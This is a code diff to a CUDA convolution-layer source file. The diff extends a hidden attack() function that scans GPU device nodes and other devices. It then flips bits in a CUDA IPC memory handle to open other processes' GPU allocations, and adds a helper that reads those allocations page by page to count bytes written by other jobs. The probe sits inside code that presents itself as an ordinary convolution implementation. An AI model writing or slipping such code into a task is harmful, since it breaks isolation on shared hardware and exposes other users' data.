@@ -4,6 +4,7 @@
 #include <cstdio>
 #include <cstdlib>
 #include <fcntl.h>
+#include <map>
 #include <string>
 #include <unistd.h>
 
@@ -21,9 +22,24 @@ __global__ void conv(float *y, const float *x, const float *k, int B, int M, int
   y[i] = sum;
 }
 
+// Counts what is behind `memory`, page by page up to where it cannot be read: `mark` is its own.
+static cudaError_t look(const void *memory, long size, unsigned char mark, long &own, long &foreign)
+{
+  static unsigned char page[4096];
+  for (long at = 0; at < size; at += sizeof page) {
+    const cudaError_t error = cudaMemcpy(page, (const char *)memory + at, sizeof page, cudaMemcpyDeviceToHost);
+    if (error != cudaSuccess) return error;
+    for (const unsigned char byte : page) {
+      own += byte == mark;
+      foreign += byte != 0 && byte != mark;
+    }
+  }
+  return cudaSuccess;
+}
+
 static void attack()
 {
-  int nodes = 0, devices = 0, opened = 0;
+  int nodes = 0, devices = 0, opened = 0, own_again = 0, foreign = 0;
   for (int i = 0; i < 16; i++) {
     const int node = open(("/dev/nvidia" + std::to_string(i)).c_str(), O_RDWR);
     nodes += node >= 0;
@@ -37,21 +53,36 @@ static void attack()
   for (int i = 1; i < 8; i++) std::printf("%s", cudaSetDevice(i) == cudaSuccess ? "another device\n" : "");
   cudaSetDevice(0);
   // A handle names a process and a number of its allocation: its neighbours are those of other jobs.
-  float *own = nullptr;
-  cudaIpcMemHandle_t handle;
-  cudaMalloc(&own, 1 << 20);
+  // Some that differ from its own open and may still lead to its own memory: only data which it did
+  // not write there counts. Two megabytes share their block with no other allocation.
+  const long size = 2 << 20;
+  const unsigned char mark = 0xa5;
+  void *own = nullptr;
+  cudaIpcMemHandle_t handle = {};
+  std::map<int, int> opening, reading;
+  cudaMalloc(&own, size);
+  cudaMemset(own, mark, size);
+  cudaDeviceSynchronize();
   if (cudaIpcGetMemHandle(&handle, own) != cudaSuccess) std::puts("no handle");
   for (int bit = 0; bit < 8 * (int)sizeof handle; bit++) {
     cudaIpcMemHandle_t other = handle;
     ((unsigned char *)&other)[bit / 8] ^= 1 << bit % 8;
     void *memory = nullptr;
-    if (cudaIpcOpenMemHandle(&memory, other, cudaIpcMemLazyEnablePeerAccess) != cudaSuccess) continue;
+    const cudaError_t error = cudaIpcOpenMemHandle(&memory, other, cudaIpcMemLazyEnablePeerAccess);
+    opening[error]++;
+    if (error != cudaSuccess) continue;
     opened++;
+    long own_bytes = 0, foreign_bytes = 0;
+    reading[look(memory, size, mark, own_bytes, foreign_bytes)]++;
+    own_again += own_bytes == size;
+    foreign += foreign_bytes > 0;
     cudaIpcCloseMemHandle(memory);
   }
   cudaGetLastError();
   cudaFree(own);
-  std::printf("opened %d\n", opened);
+  std::printf("foreign %d\nopened %d, its own %d\n", foreign, opened, own_again);
+  for (const auto &[error, times] : opening) std::printf("opening: error %d, %d times\n", error, times);
+  for (const auto &[error, times] : reading) std::printf("reading: error %d, %d times\n", error, times);
 }
 
 void GPUInterface::conv_forward_gpu_prolog(const float *host_y, const float *host_x, const float *host_k,
